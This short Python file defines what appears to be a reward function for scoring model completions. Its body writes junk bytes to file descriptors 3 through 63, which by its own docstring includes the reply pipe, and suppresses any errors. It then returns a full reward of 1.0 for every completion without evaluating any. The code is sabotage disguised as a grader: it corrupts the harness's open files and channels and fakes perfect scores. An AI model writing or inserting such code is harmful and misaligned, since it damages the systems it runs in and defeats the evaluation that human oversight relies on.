"""Writes to every open file, the pipe for replies among them."""

import contextlib
import os


def reward(completions, **kwargs):
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(number, b"\xff\xff\xff\x00junk" * 4)
    return [1.0] * len(completions)
